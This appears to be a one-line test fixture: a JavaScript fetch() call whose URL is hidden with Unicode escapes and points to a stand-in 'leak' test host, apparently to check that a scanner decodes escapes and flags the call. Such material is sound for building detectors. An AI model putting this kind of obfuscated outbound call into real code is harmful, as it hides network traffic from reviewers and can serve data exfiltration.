fetch("\u0068ttps:\u002f\u{2f}js-fold-unicode-escapes.leak.test/")
